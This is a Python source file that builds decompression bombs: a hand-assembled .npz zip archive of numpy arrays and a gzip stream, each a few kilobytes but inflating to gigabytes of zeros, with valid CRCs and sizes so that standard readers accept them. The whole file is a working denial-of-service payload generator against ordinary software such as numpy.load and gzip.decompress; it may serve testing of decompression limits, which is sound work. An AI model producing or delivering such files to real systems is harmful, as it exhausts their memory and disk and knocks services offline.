"""A deflate bomb in ``.npz`` form: arrays of zeros that take kilobytes in the file.

Deflate compresses a run of zeros about 1000:1, and once its window holds only zeros every
further 64 MiB of zeros deflates to the same bytes, so a gigabyte-sized member costs one
compression of 64 MiB to make. The zip is written by hand because ``zipfile`` would deflate the
whole run again; sizes and CRCs are the true ones, so every reader takes it as a valid archive.
"""

from __future__ import annotations

import struct
import time
import zlib
from pathlib import Path

import numpy as np

CHUNK = 64 << 20
_ZEROS = bytes(CHUNK)


def _deflated_zeros(header: bytes, chunks: int) -> tuple[bytes, int]:
    """Raw deflate of ``header`` + ``chunks`` x 64 MiB of zeros, and the CRC-32 of that."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(header + _ZEROS) + packer.flush(zlib.Z_FULL_FLUSH)
    steady = packer.compress(_ZEROS) + packer.flush(zlib.Z_FULL_FLUSH)
    crc = zlib.crc32(header + _ZEROS)
    for _ in range(chunks - 1):
        crc = zlib.crc32(_ZEROS, crc)
    return first + steady * (chunks - 1) + packer.flush(), crc


def npy_header(dtype: str, shape: tuple[int, ...]) -> bytes:
    text = f"{{'descr': '{dtype}', 'fortran_order': False, 'shape': {shape!r}, }}"
    text += " " * (63 - (len(text) + 10) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode("latin1")


def write_npz_bomb(path: Path, members: dict[str, int], dtype: str = "<f8") -> None:
    """``members``: array name -> number of 64 MiB chunks of zeros (each under 4 GiB)."""
    stamp = time.localtime()
    dos_time = stamp.tm_hour << 11 | stamp.tm_min << 5 | stamp.tm_sec // 2
    dos_date = (stamp.tm_year - 1980) << 9 | stamp.tm_mon << 5 | stamp.tm_mday
    central, offset = b"", 0
    with path.open("wb") as out:
        for name, chunks in members.items():
            itemsize = np.dtype(dtype).itemsize
            header = npy_header(dtype, (chunks * CHUNK // itemsize,))
            data, crc = _deflated_zeros(header, chunks)
            size = len(header) + chunks * CHUNK
            assert size < 1 << 32, "no zip64 here: keep each member under 4 GiB"
            fname = f"{name}.npy".encode()
            fields = (20, 0, 8, dos_time, dos_date, crc, len(data), size, len(fname), 0)
            out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields) + fname + data)
            central += (
                struct.pack("<IH", 0x02014B50, 20)
                + struct.pack("<HHHHHIIIHHHHHII", *fields, 0, 0, 0, 0, offset)
                + fname
            )
            offset += 30 + len(fname) + len(data)
        out.write(central)
        count = len(members)
        out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), offset, 0))


def gzip_bomb(chunks: int, head: bytes = b"") -> bytes:
    """One valid gzip member of ``head`` + ``chunks`` x 64 MiB of zeros (ISIZE modulo 2**32, as
    gzip writes it): what ``gzip.decompress`` inflates whole, from about 64 KiB a gigabyte."""
    data, crc = _deflated_zeros(head, chunks)
    size = (len(head) + chunks * CHUNK) % (1 << 32)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return header + data + struct.pack("<II", crc, size)
